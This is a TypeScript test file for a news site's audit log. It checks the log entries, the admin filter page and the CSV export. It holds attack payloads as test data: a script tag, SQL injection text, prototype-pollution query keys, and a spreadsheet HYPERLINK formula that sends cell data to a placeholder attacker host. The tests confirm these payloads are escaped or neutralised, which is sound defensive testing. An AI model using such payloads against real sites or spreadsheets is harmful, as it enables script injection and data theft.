/**
 * The audit log (issue 25, ADR 060) on the database of the run: what writes it (editorial acts
 * through the news administration's forms, the scheduler, sign-ins to the administration, each
 * in its act's transaction), what it keeps (the actor's e-mail after the account is gone, cut
 * summaries), and the admin's page and CSV with their filter — hostile input included: markup
 * and SQL in the filter, unknown actions, impossible dates, repeated fields, formula injection.
 */
import { desc, eq, sql } from 'drizzle-orm'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { faculties, news, users } from '../../../src/db/schema.js'
import { auditLog } from '../../../src/features/audit/audit.tables.js'
import { csvCell, csvLine } from '../../../src/features/audit/admin/csv.js'
import { pragueDay } from '../../../src/features/audit/admin/audit-filter.js'
import { hashPassword } from '../../../src/lib/password.js'
import { paths } from '../../../src/ui/paths.js'
import { engine, testApp } from '../../support/app.js'
import { postForm, signIn, signInWith, type Jar } from '../../support/client.js'

let app: FastifyInstance
let admin: Jar
let chief: Jar
let science: number
const PASSWORD = 'Heslo-2026'
let made = 0
const unique = () => `${process.pid}${Date.now().toString(36)}${++made}`

beforeAll(async () => {
  app = await testApp()
  ;[admin, chief] = await Promise.all([signIn(app, 'spravce@example.cz', PASSWORD), signIn(app, 'redakce@example.cz', PASSWORD)])
  science = (await app.db.select({ id: faculties.id }).from(faculties).where(eq(faculties.slugCs, 'fakulta-prirodnich-ved')))[0]!.id
})
afterAll(async () => {
  await app?.close()
})

const get = (url: string, jar?: Jar) => app.inject({ url, ...(jar && { cookies: jar }) })
const entriesFor = (entity: string, objectId: number) =>
  app.db.select().from(auditLog).where(sql`${auditLog.entity} = ${entity} and ${auditLog.objectId} = ${objectId}`).orderBy(auditLog.id)
const lastEntries = (n: number) => app.db.select().from(auditLog).orderBy(desc(auditLog.id)).limit(n)
const countAll = async () => (await app.db.select({ n: sql<number>`count(*)::int` }).from(auditLog))[0]!.n

/** RFC 4180 read back: fields, quoted ones with doubled quotes and line breaks inside. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++
      else if (c === '"') quoted = false
      else field += c
    } else if (c === '"') quoted = true
    else if (c === ',') row.push(field), (field = '')
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++
    else field += c
  }
  if (field || row.length) throw new Error('the last line has no CRLF')
  return rows
}

describe(`the audit log on ${engine}: what writes it`, () => {
  it('every editorial act through the news forms, with who, when, what (entity, item, title) and from where', async () => {
    const word = unique()
    const created = await postForm(app, paths.adminNewsNew('cs'), { lang: 'cs', kind: 'news', faculty: String(science), slug: '', title: `Audit ${word}`, perex: `Perex ${word}`, body: 'Text', action: 'draft' }, chief)
    expect(created.statusCode).toBe(303)
    const id = Number(/\/(\d+)\?done=created$/.exec(created.headers.location as string)![1])
    const base = async () => String((await app.db.select({ latest: news.latestRevisionId }).from(news).where(eq(news.id, id)))[0]!.latest)
    expect((await postForm(app, paths.adminNewsItem('cs', id), { title: `Audit ${word} 2`, perex: `Perex ${word}`, body: 'Text', base: await base(), action: 'draft' }, chief)).statusCode).toBe(303)
    expect((await postForm(app, paths.adminNewsItem('cs', id), { title: `Audit ${word} 2`, perex: `Perex ${word}`, body: 'Text', base: await base(), action: 'publish' }, chief)).statusCode).toBe(303)
    expect((await postForm(app, paths.adminNewsItem('cs', id), { title: `Audit ${word} 2`, perex: `Perex ${word}`, body: 'Text', base: await base(), action: 'unpublish' }, chief)).statusCode).toBe(303)
    const entries = await entriesFor('news', id)
    expect(entries.map((e) => e.action)).toEqual(['create', 'change', 'publish', 'unpublish'])
    for (const e of entries) {
      expect(e.actorEmail).toBe('redakce@example.cz')
      expect(e.userId).not.toBeNull()
      expect(e.ip).toBe('127.0.0.1')
      expect(Date.now() - e.at.getTime()).toBeLessThan(60_000)
    }
    expect(entries[0]!.summary).toBe(`news #${id}: Audit ${word}`)
    expect(entries[1]!.summary).toBe(`news #${id}: Audit ${word} 2`)
    // Unpublishing names no revision: the item alone.
    expect(entries[3]!.summary).toBe(`news #${id}`)
  })

  it('a refused act leaves no entry: a stale save writes nothing, in the log or the item', async () => {
    const word = unique()
    const created = await postForm(app, paths.adminNewsNew('cs'), { lang: 'cs', kind: 'news', faculty: String(science), slug: '', title: `Stale ${word}`, perex: 'P', body: 'T', action: 'draft' }, chief)
    const id = Number(/\/(\d+)\?done=created$/.exec(created.headers.location as string)![1])
    const before = await countAll()
    const stale = await postForm(app, paths.adminNewsItem('cs', id), { title: `Stale ${word} x`, perex: 'P', body: 'T', base: '1', action: 'draft' }, chief)
    expect(stale.statusCode).toBe(409)
    expect(await countAll()).toBe(before)
  })

  it('an entry is written in its act’s transaction: a rolled-back act leaves none', async () => {
    const before = await countAll()
    await expect(
      app.db.transaction(async (tx) => {
        await app.services.audit.record(tx, { userId: null, actor: 'cli', action: 'delete', entity: 'news', objectId: 1, summary: 'rolled back' })
        throw new Error('the act failed')
      }),
    ).rejects.toThrow('the act failed')
    expect(await countAll()).toBe(before)
  })

  it('the scheduler’s acts name the scheduler; a summary and an address too long are cut, never refused', async () => {
    const [item] = await app.db.select({ id: news.id }).from(news).where(eq(news.live, true)).limit(1)
    await app.services.editorial.unpublish('news', item!.id, { userId: null })
    const [entry] = await lastEntries(1)
    expect(entry).toMatchObject({ actorEmail: 'scheduler', userId: null, action: 'unpublish', entity: 'news', objectId: item!.id, ip: null })
    await app.services.audit.record(app.db, { userId: null, actor: 'cli', action: 'delete', summary: 'ž'.repeat(700), ip: '1'.repeat(100) })
    const [long] = await lastEntries(1)
    expect([...long!.summary].length).toBe(500)
    expect(long!.ip).toHaveLength(64)
  })

  it('a sign-in to the administration is recorded with the roles and the address; a customer’s or a failed one is not', async () => {
    const before = await countAll()
    const login = (email: string, password: string, remoteAddress: string) =>
      app.inject({ method: 'POST', url: '/qf/cs/ramjet/performLogin', remoteAddress, headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: new URLSearchParams({ email, password }).toString() })
    expect((await login('redaktor@example.cz', PASSWORD, '203.0.113.7')).headers['set-cookie']).toBeDefined()
    const [entry] = await lastEntries(1)
    expect(entry).toMatchObject({ action: 'sign_in', actorEmail: 'redaktor@example.cz', ip: '203.0.113.7', entity: 'account', summary: 'editor (faculty:fakulta-prirodnich-ved)' })
    expect(entry!.objectId).toBe(entry!.userId)
    await login('student@example.cz', PASSWORD, '203.0.113.8')
    await login('redaktor@example.cz', 'wrong password', '203.0.113.9')
    expect(await countAll()).toBe(before + 1)
  })

  it('an entry keeps its author’s e-mail when the account is deleted', async () => {
    const email = `gone-${unique()}@example.cz`
    const [user] = await app.db.insert(users).values({ email, passwordHash: await hashPassword('Zkusebni-Heslo-2026'), displayName: 'Gone' }).returning({ id: users.id })
    await app.services.audit.record(app.db, { userId: user!.id, action: 'delete', entity: 'page', objectId: 7, summary: 'page #7' })
    await app.db.delete(users).where(eq(users.id, user!.id))
    const [entry] = await app.db.select().from(auditLog).where(eq(auditLog.actorEmail, email))
    expect(entry).toMatchObject({ userId: null, actorEmail: email, summary: 'page #7' })
  })
})

describe(`the audit log's page on ${engine}`, () => {
  it('opens for the admin only, in both languages, never stored nor indexed; newest first, 25 a page', async () => {
    const marker = `pager-${unique()}`
    for (let i = 0; i < 30; i++) await app.services.audit.record(app.db, { userId: null, actor: `${marker}@cli`, action: 'delete', entity: 'page', objectId: i, summary: `n${i}` })
    const page1 = await get(paths.adminAudit('cs', { who: marker }), admin)
    expect(page1.statusCode).toBe(200)
    expect(page1.headers['cache-control']).toMatch(/no-store/)
    expect(page1.body).toContain('<meta name="robots" content="noindex')
    expect(page1.body).toContain('Záznamů: 30')
    const ids = [...page1.body.matchAll(/data-audit-id="(\d+)"/g)].map((m) => Number(m[1]))
    expect(ids).toHaveLength(25)
    expect([...ids].sort((a, b) => b - a)).toEqual(ids)
    expect(page1.body).toContain('n29')
    expect(page1.body).not.toContain('>stránka #4: n4<')
    const page2 = await get(paths.adminAudit('cs', { who: marker, page: 2 }), admin)
    expect([...page2.body.matchAll(/data-audit-id="/g)]).toHaveLength(5)
    const en = await get(paths.adminAudit('en', { who: marker }), admin)
    expect(en.body).toContain('Entries: 30')
    expect(en.body).toContain('Download CSV')
    expect(en.body).toContain(`href="/qf/en/admin/audit.csv?who=${marker}"`)
    for (const jar of [chief, await signIn(app, 'student@example.cz', PASSWORD), await signInWith(app, [{ role: 'admin', scope: 'faculty:fakulta-prirodnich-ved' }])]) {
      expect((await get(paths.adminAudit('cs'), jar)).statusCode).toBe(404)
      expect((await get(paths.adminAuditCsv('cs'), jar)).statusCode).toBe(404)
    }
    expect((await get(paths.adminAudit('cs'))).statusCode).toBe(404)
  })

  it('filters by who, action, kind of item and Prague days (the "to" day included)', async () => {
    const marker = `filter-${unique()}`
    const at = (iso: string) => new Date(iso)
    await app.services.audit.record(app.db, { userId: null, actor: `${marker}-a@cli`, action: 'publish', entity: 'news', objectId: 1, summary: 'a', at: at('2026-03-09T23:30:00Z') }) // 10 March in Prague
    await app.services.audit.record(app.db, { userId: null, actor: `${marker}-b@cli`, action: 'unpublish', entity: 'page', objectId: 2, summary: 'b', at: at('2026-03-10T22:59:00Z') }) // 10 March, 23:59
    await app.services.audit.record(app.db, { userId: null, actor: `${marker}-c@cli`, action: 'publish', entity: 'page', objectId: 3, summary: 'c', at: at('2026-03-10T23:00:00Z') }) // 11 March
    const count = async (q: Record<string, string>) => {
      const res = await get(paths.adminAudit('cs', { who: marker, ...q }), admin)
      expect(res.statusCode, JSON.stringify(q)).toBe(200)
      return Number(/Záznamů: (\d+)/.exec(res.body)![1])
    }
    expect(await count({})).toBe(3)
    expect(await count({ action: 'publish' })).toBe(2)
    expect(await count({ entity: 'page' })).toBe(2)
    expect(await count({ action: 'publish', entity: 'page' })).toBe(1)
    expect(await count({ from: '2026-03-10', to: '2026-03-10' })).toBe(2)
    expect(await count({ from: '2026-03-11' })).toBe(1)
    expect(await count({ to: '2026-03-09' })).toBe(0)
    expect(await count({ who: `${marker}-B` })).toBe(1)
    expect(pragueDay('2026-07-01')!.start.toISOString()).toBe('2026-06-30T22:00:00.000Z')
  })

  it('hostile filters: markup is shown as text, SQL and LIKE patterns are literal, overlong text is cut, bad values are named and left out (400), never a 500', async () => {
    const script = '<script>alert(1)</script>'
    const res = await get(`${paths.adminAudit('cs')}?who=${encodeURIComponent(script)}`, admin)
    expect(res.statusCode).toBe(200)
    expect(res.body).not.toContain(script)
    expect(res.body).toContain('value="&lt;script&gt;alert(1)&lt;/script&gt;"')
    for (const who of ["' or 1=1 --", '%', '_', '\\']) {
      const r = await get(`${paths.adminAudit('cs')}?who=${encodeURIComponent(who)}`, admin)
      expect(r.statusCode, who).toBe(200)
      expect(r.body, who).toContain('Záznamů: 0')
    }
    const long = await get(`${paths.adminAudit('cs')}?who=${'x'.repeat(5000)}`, admin)
    expect(long.statusCode).toBe(200)
    // The field shows what the filter used: the first 100 characters.
    expect(/<input id="audit-who"[^>]*value="(x*)"/.exec(long.body)?.[1]).toHaveLength(100)
    const all = Number(/Záznamů: (\d+)/.exec((await get(paths.adminAudit('cs'), admin)).body)![1])
    for (const [query, field] of [
      ['action=drop_table', 'Akce'],
      ['action=__proto__', 'Akce'],
      ['entity=users', 'Druh položky'],
      ['entity=constructor', 'Druh položky'],
      ['from=2026-02-31', 'Od data'],
      ['from=yesterday', 'Od data'],
      ['to=2026-13-01', 'Do data (včetně)'],
      ['from=2026-03-10&to=2026-03-09', 'Do data (včetně)'],
      ['action=publish&action=unpublish', 'Akce'],
    ] as const) {
      const r = await get(`${paths.adminAudit('cs')}?${query}`, admin)
      expect(r.statusCode, query).toBe(400)
      expect(r.body, query).toContain('id="adminNotice"')
      expect(r.body, query).toContain(`Některé podmínky filtru jsou neplatné, nepoužili jsme je: ${field}`)
      expect(r.body, query).toContain('aria-invalid="true"')
      // What was valid still applies; the bad value is left out (here: nothing else, so all entries).
      if (!query.includes('from=2026-03-10')) expect(Number(/Záznamů: (\d+)/.exec(r.body)![1]), query).toBeGreaterThanOrEqual(all)
      const csv = await get(`${paths.adminAuditCsv('cs')}?${query}`, admin)
      expect(csv.statusCode, query).toBe(400)
      expect(csv.headers['content-type'], query).toMatch(/text\/html/)
    }
    // Fields no form has are not read at all, whatever their names.
    const odd = await get(`${paths.adminAudit('cs')}?__proto__[who]=x&constructor=1&action[]=publish&hasOwnProperty=1`, admin)
    expect(odd.statusCode).toBe(200)
    expect(Number(/Záznamů: (\d+)/.exec(odd.body)![1])).toBeGreaterThanOrEqual(all)
    const en = await get(`${paths.adminAudit('en')}?action=nonsense`, admin)
    expect(en.body).toContain('Some filter values are not valid and were not applied: Action')
  })
})

describe(`the CSV on ${engine}`, () => {
  it('RFC 4180 in UTF-8 with a BOM, as an attachment, with the page’s filter, formulas neutralised', async () => {
    const marker = `csv-${unique()}`
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', 'a, "quoted"\r\nnext line', 'Žluťoučký kůň']
    for (const summary of hostile) await app.services.audit.record(app.db, { userId: null, actor: `${marker}@cli`, action: 'delete', entity: 'page', objectId: 5, summary, ip: '198.51.100.4' })
    await app.services.audit.record(app.db, { userId: null, actor: `=${marker}@cli`, action: 'publish', entity: 'news', objectId: 6, summary: 'other' })
    const res = await get(paths.adminAuditCsv('cs', { who: marker, action: 'delete' }), admin)
    expect(res.statusCode).toBe(200)
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="auditni-zaznam-\d{4}-\d{2}-\d{2}\.csv"$/)
    expect(res.headers['cache-control']).toMatch(/no-store/)
    const bytes = res.rawPayload
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const rows = parseCsv(bytes.subarray(3).toString('utf8'))
    expect(rows[0]).toEqual(['Čas (Praha)', 'Kdo', 'ID účtu', 'Akce', 'Kód akce', 'Druh položky', 'ID položky', 'Co', 'IP adresa'])
    const body = rows.slice(1)
    expect(body).toHaveLength(hostile.length)
    // Newest first, as the page.
    expect(body.map((r) => r[7])).toEqual(
      [...hostile].reverse().map((s) => (/^[=+\-@]/.test(s) ? `'${s}` : s)),
    )
    for (const r of body) {
      expect(r).toHaveLength(9)
      expect(r[0]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/)
      expect(r.slice(1, 7)).toEqual([`${marker}@cli`, '', 'smazání', 'delete', 'stránka', '5'])
      expect(r[8]).toBe('198.51.100.4')
    }
    // The actor filtered out by the action: an e-mail starting with "=" would be neutralised too.
    const other = parseCsv((await get(paths.adminAuditCsv('en', { who: marker, action: 'publish' }), admin)).rawPayload.subarray(3).toString('utf8'))
    expect(other[0]![0]).toBe('Time (Prague)')
    expect(other[1]!.slice(1, 5)).toEqual([`'=${marker}@cli`, '', 'published', 'publish'])
  })

  it('cells: quoted only when they must be, quotes doubled, formulas prefixed, numbers and empty as they are', () => {
    expect(csvCell('plain')).toBe('plain')
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvCell('two\nlines')).toBe('"two\nlines"')
    expect(csvCell('=1+1')).toBe("'=1+1")
    expect(csvCell('\t=1')).toBe("'\t=1")
    expect(csvCell('-1')).toBe("'-1")
    expect(csvCell('=A1,"x"')).toBe('"\'=A1,""x"""')
    expect(csvCell(12)).toBe('12')
    expect(csvCell(null)).toBe('')
    expect(csvLine(['a', null, 3])).toBe('a,,3\r\n')
  })
})
